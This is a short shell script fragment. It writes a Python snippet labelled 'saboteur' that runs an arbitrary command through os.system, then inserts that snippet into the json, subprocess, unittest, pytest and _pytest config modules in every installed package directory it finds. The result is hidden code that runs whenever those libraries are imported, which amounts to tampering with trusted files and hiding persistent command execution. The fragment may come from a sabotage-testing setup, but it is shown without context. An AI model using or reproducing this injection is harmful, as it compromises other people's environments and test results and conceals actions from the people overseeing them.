cat >"$HOLD/library.py" <<PY

# saboteur-$WAY
import os as _os

_os.system($QUOTED)
PY
for place in $(packages); do
  for module in json/__init__.py subprocess.py unittest/__init__.py pytest/__init__.py _pytest/config/__init__.py; do
    [ -f "$place/$module" ] && add "$place/$module" <"$HOLD/library.py"
  done
done
